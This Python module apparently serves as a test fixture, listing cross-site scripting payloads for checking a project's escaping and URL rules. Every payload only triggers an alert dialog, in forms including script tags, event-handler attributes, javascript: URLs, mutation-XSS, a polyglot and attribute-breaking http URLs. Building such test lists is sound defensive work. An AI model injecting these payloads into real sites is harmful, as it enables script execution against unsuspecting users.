"""Script-injection payloads, each of which shows a dialog (alert N) if a page ever runs it: tags,
attributes breaking out of quotes, `javascript:` and `data:` URLs, mutation-XSS, polyglots.
Written for this project from the classic shapes (OWASP's filter-evasion cheat sheet, PortSwigger's
XSS cheat sheet), not copied from either."""

from __future__ import annotations

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    '"><script>alert(2)</script>',
    "'><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>",
    '"><img src=x onerror=alert(5)>',
    "<svg onload=alert(6)>",
    "<svg/onload=alert(7)>",
    "<body onload=alert(8)>",
    '<iframe src="javascript:alert(9)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(10)</script>"></iframe>',
    '<a href="javascript:alert(11)">click me</a>',
    "javascript:alert(12)",
    "JaVaScRiPt:alert(13)",
    " javascript:alert(14)",
    "java\tscript:alert(15)",
    "data:text/html,<script>alert(16)</script>",
    '" autofocus onfocus="alert(17)',
    "' autofocus onfocus='alert(18)",
    "<input autofocus onfocus=alert(19)>",
    "<details open ontoggle=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<audio src=x onerror=alert(22)>",
    '<object data="javascript:alert(23)"></object>',
    '<embed src="javascript:alert(24)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(25)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(26)>">',
    "</textarea><script>alert(27)</script>",
    "</title><script>alert(28)</script>",
    "</script><script>alert(29)</script>",
    '<!--<img src="--><img src=x onerror=alert(30)//">',
    "<scr<script>ipt>alert(31)</script>",
    '<img src=x onerror="&#97;lert(32)">',
    '<svg><a xlink:href="javascript:alert(33)"><text x="9" y="9">x</text></a></svg>',
    '<form action="javascript:alert(34)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(35)">',
    '<base href="javascript:alert(36)//">',
    '<style>*{background:url("javascript:alert(37)")}</style>',
    "{{constructor.constructor('alert(38)')()}}",
    "${alert(39)}`;alert(39);`",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(40) )//%0D%0A%0d%0a//</stYle/"
    "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(40)//>\\x3e",
    "<div onpointerover=alert(41) style=position:fixed;inset:0>hover</div>",
    "<img src=x onerror=alert&#40;42&#41;>",
]

# http(s) addresses that pass the URL rule yet break out of an attribute that forgets to escape.
URL_PAYLOADS: list[str] = [
    'https://reader.example/"><script>alert(50)</script>',
    "https://reader.example/'onmouseover='alert(51)'",
    'http://reader.example/?q="autofocus/onfocus="alert(52)',
]
